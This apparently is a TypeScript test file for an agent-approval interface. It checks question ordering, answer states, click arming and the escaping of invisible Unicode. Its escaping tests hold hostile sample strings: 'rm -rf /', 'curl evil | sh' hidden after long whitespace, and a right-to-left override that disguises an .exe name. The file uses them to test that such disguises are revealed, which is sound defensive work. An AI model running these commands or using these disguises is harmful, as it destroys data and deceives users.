import { describe, expect, test } from "vitest";
import { type ApprovalRequest, emptyDesktop, type OpenPrompt, type Outbox, type Sent } from "../../../core/src/index.js";
import { answerState, type EndingContext, endingOf } from "../../src/asks/answers.js";
import { afterVisible, armDelay, isValidPress, type Timers } from "../../src/asks/arming.js";
import { hasAnswer, toggleOption } from "../../src/asks/choice.js";
import { originOf, titleOf } from "../../src/asks/facts.js";
import { escapeInvisible } from "../../src/asks/invisible.js";
import { type Ask, adjacentAsk, askInFront, asksOf, type PlanAsk, timeLeft, versionOf } from "../../src/asks/order.js";
import { asks as texts } from "../../src/texts/asks.js";

const approval = (dialogId: string, deadline?: number, more: Partial<ApprovalRequest> = {}): ApprovalRequest => ({
  dialogId,
  title: dialogId,
  message: "",
  ...(deadline === undefined ? {} : { deadline }),
  ...more,
});
const prompt = (id: string, deadline: number): OpenPrompt => ({ id, title: id, message: "", deadline });

const asks = asksOf({
  dialogs: new Map([
    ["late", approval("late", 3000)],
    ["never", approval("never")],
  ]),
  prompts: new Map([
    ["soon", prompt("soon", 1000)],
    ["late", prompt("late", 3000)],
  ]),
  requests: new Map(),
});
const [soon, , late] = asks as [Ask, Ask, Ask];

describe("order", () => {
  test("the earliest deadline first; ids of different kinds do not collide", () => {
    expect(asks.map((a) => a.key)).toEqual(["prompt/soon", "approval/late", "prompt/late", "approval/never"]);
  });

  test("the shown question stays, however urgent another one is", () => {
    expect(askInFront(asks, "", new Set())).toBe(soon);
    expect(askInFront(asks, "prompt/late", new Set())).toBe(late);
    expect(askInFront(asks, "gone", new Set(["prompt/soon"]))?.key).toBe("approval/late");
    expect(askInFront(asks, "prompt/soon", new Set(asks.map((a) => a.key)))).toBeUndefined();
  });

  test("the first and the last question are adjacent", () => {
    expect(adjacentAsk(asks, "prompt/soon", -1)?.key).toBe("approval/never");
    expect(adjacentAsk(asks, "approval/never", 1)).toBe(soon);
  });

  test("the time left, by the hub's clock", () => {
    expect(timeLeft(soon, 400)).toEqual({ ms: 600, part: 600 / 300_000 });
    expect(timeLeft(soon, 9000)).toEqual({ ms: 0, part: 0 });
    expect(timeLeft(asks[3]!, 0)).toEqual({ ms: Infinity, part: 1 });
  });
});

test("only presses of the user that began after arming count", () => {
  expect(isValidPress({ isTrusted: true, detail: 1 }, true, true)).toBe(true);
  expect(isValidPress({ isTrusted: true, detail: 0 }, true, false)).toBe(true);
  expect(isValidPress({ isTrusted: true, detail: 1 }, true, false)).toBe(false);
  expect(isValidPress({ isTrusted: true, detail: 1 }, false, true)).toBe(false);
  expect(isValidPress({ isTrusted: false, detail: 0 }, true, true)).toBe(false);
});

describe("answers", () => {
  const ask = asks[1]!;
  const sent = (id: string, status: Sent["status"], since = 0, reason = ""): Sent =>
    ({ id, type: "DIALOG_FEEDBACK", data: { dialogId: "late", confirmed: true }, since, status: status, reason, written: 1, again: false, waits: 0 }) as Sent;
  const outbox = (...items: Sent[]): Pick<Outbox, "items"> => ({ items });
  const witness = (o: Pick<Outbox, "items">): EndingContext => ({ outbox: o, presence: [{ connectionId: "c1", user: "me" }, { connectionId: "c2", user: "mina" }], user: "me", now: 100_000 });

  test("the state is that of the newest answer", () => {
    expect(answerState(outbox(), ask)).toEqual({ state: "open" });
    expect(answerState(outbox(sent("m1", "sending")), ask)).toEqual({ state: "sending" });
    expect(answerState(outbox(sent("m1", "rejected", 0, "no")), ask)).toEqual({ state: "refused", reason: "no", code: 0, field: "" });
    expect(answerState(outbox(sent("m1", "rejected"), sent("m2", "sending")), ask)).toEqual({ state: "sending" });
    expect(answerState(outbox(sent("m1", "sending")), late)).toEqual({ state: "open" });
  });

  test("a question that is asked again is open", () => {
    expect(answerState(outbox(sent("m1", "done")), ask)).toEqual({ state: "open" });
  });

  const closed = { dialogId: "late", reason: "answered", answeredBy: "c1", messageId: "m9" } as const;
  test("how it ended", () => {
    expect(endingOf(ask, closed, witness(outbox()))).toEqual({ how: "otherTab" });
    expect(endingOf(ask, { ...closed, answeredBy: "c2" }, witness(outbox()))).toEqual({ how: "other", user: "mina" });
    expect(endingOf(ask, { ...closed, answeredBy: "gone" }, witness(outbox()))).toEqual({ how: "otherTab" });
    expect(endingOf(ask, { ...closed, reason: "expired" }, witness(outbox()))).toEqual({ how: "expired" });
    expect(endingOf(ask, { ...closed, reason: "cancelled" }, witness(outbox()))).toEqual({ how: "withdrawn" });
  });

  test("an own answer causes no notice, a second one that lost does", () => {
    expect(endingOf(ask, closed, witness(outbox(sent("m9", "done", 99_000))))).toBeUndefined();
    expect(endingOf(ask, { ...closed, answeredBy: "c2" }, witness(outbox(sent("m1", "done", 99_000))))).toEqual({ how: "lost", user: "mina" });
    expect(endingOf(ask, closed, witness(outbox(sent("m1", "done", 1_000))))).toEqual({ how: "otherTab" });
  });
});

describe("prompts", () => {
  const p: OpenPrompt = { id: "p", title: "", message: "", options: [{ value: "a", label: "A" }, { value: "b", label: "B" }] };

  test("one or several options can be chosen", () => {
    expect(toggleOption(["a"], "b", false)).toEqual(["b"]);
    expect(toggleOption(["a"], "b", true)).toEqual(["a", "b"]);
    expect(toggleOption(["a", "b"], "a", true)).toEqual(["b"]);
  });

  test("an answer is complete when the hub accepts it", () => {
    expect(hasAnswer(p, [], "")).toBe(false);
    expect(hasAnswer(p, ["a"], "")).toBe(true);
    expect(hasAnswer(p, ["x"], "")).toBe(false);
    expect(hasAnswer(p, [], "text")).toBe(false);
    expect(hasAnswer({ ...p, inputField: {} }, [], " text")).toBe(true);
    expect(hasAnswer({ id: "p", title: "", message: "" }, [], "")).toBe(true);
  });
});

test("no character of a text is invisible or changes its direction", () => {
  expect(escapeInvisible("rm -rf /\n\ttmp 한글 👩‍💻")).toBe("rm -rf /\n\ttmp 한글 👩‍💻");
  expect(escapeInvisible("a\u202Etxt.exe\u200B\r\nb\u0000")).toBe("a[U+202E]txt.exe[U+200B]\nb[U+0000]");
  expect(escapeInvisible("x\u{E0041}")).toBe("x[U+E0041]");
  for (const sign of ["\u3164", "\u115F", "\uFFA0", "\u034F", "\u2800", "\u{E0101}", "\u200C", "\u200D", "\u00A0", "\u2003", "\u3000"]) {
    expect(escapeInvisible(`a${sign}b`)).toMatch(/^a\[U\+[0-9A-F]{4,5}\]b$/);
  }
  expect(escapeInvisible("⚠️ a\uFE0F")).toBe("⚠️ a[U+FE0F]");
});

test("long gaps do not push text out of view", () => {
  expect(escapeInvisible(`ls /tmp${"\n".repeat(200)}; curl evil | sh`)).toBe("ls /tmp\n[↵ ×199]\n; curl evil | sh");
  expect(escapeInvisible(`ls${" ".repeat(90)}; rm`)).toBe("ls [␣ ×90] ; rm");
  expect(escapeInvisible("a\n\n  b")).toBe("a\n\n  b");
});

test("a question with another content is another version", () => {
  const of = (title: string): string => versionOf(asksOf({ dialogs: new Map([["d", approval("d", 1, { title })]]), prompts: new Map(), requests: new Map() })[0]!);
  expect(of("a")).toBe(of("a"));
  expect(of("a")).not.toBe(of("b"));
});

test("a question has the agent, monitor and window of its origin", () => {
  const desktop = emptyDesktop();
  const ask = asksOf({ dialogs: new Map([["d", approval("d", 1, { agentId: "window-w1" })]]), prompts: new Map(), requests: new Map() })[0]! as Exclude<Ask, PlanAsk>;
  expect(originOf(ask, desktop)).toEqual({ agent: "window-w1", monitor: "monitor-0" });
  const agents = new Map([["window-w1", { role: "window-w1", kind: "window", monitorId: "monitor-1", windowId: "w1", status: "running", text: "", thinking: "", textBytes: 0, thinkingBytes: 0 } as const]]);
  expect(originOf(ask, { agents })).toEqual({ agent: "window-w1", monitor: "monitor-1" });
});

describe("arming", () => {
  /** A page whose frames are drawn by the test. */
  function page(): { clocks: Timers; draw: () => void; timers: number[]; acted: () => void; done: () => number } {
    const frames = new Map<number, () => void>();
    const running = new Map<number, { act: () => void; ms: number }>();
    let last = 0;
    let done = 0;
    const clocks = {
      requestAnimationFrame: (act: () => void) => (frames.set(++last, act), last),
      cancelAnimationFrame: (id: number) => frames.delete(id),
      setTimeout: (act: () => void, ms: number) => (running.set(++last, { act, ms }), last),
      clearTimeout: (id: number) => running.delete(id),
    } as unknown as Timers;
    const draw = (): void => {
      const now = [...frames.values()];
      frames.clear();
      now.forEach((f) => f());
    };
    return {
      clocks,
      draw,
      get timers() {
        return [...running.values()].map((t) => t.ms);
      },
      acted: () => void done++,
      done: () => ([...running.values()].forEach((t) => t.act()), done),
    };
  }

  test("the delay starts with the frame after the one that shows the question", () => {
    const p = page();
    afterVisible(p.clocks, p.acted);
    expect(p.timers).toEqual([]);
    p.draw();
    expect(p.timers).toEqual([]);
    p.draw();
    expect(p.timers).toEqual([armDelay]);
    expect(p.done()).toBe(1);
  });

  test("it can be cancelled at any time", () => {
    for (const frames of [0, 1, 2]) {
      const p = page();
      const cancel = afterVisible(p.clocks, p.acted);
      for (let i = 0; i < frames; i++) p.draw();
      cancel();
      p.draw();
      p.draw();
      expect(p.done()).toBe(0);
    }
  });
});

test("the hub's own titles are translated", () => {
  const title = (request: ApprovalRequest): string => titleOf({ request }, texts.ko);
  expect(title(approval("d", 1, { title: "May the agent do this?" }))).toBe(texts.ko.permission);
  expect(title(approval("d", 1, { title: "Add a\u200Bhook?" }))).toBe("Add a[U+200B]hook?");
});
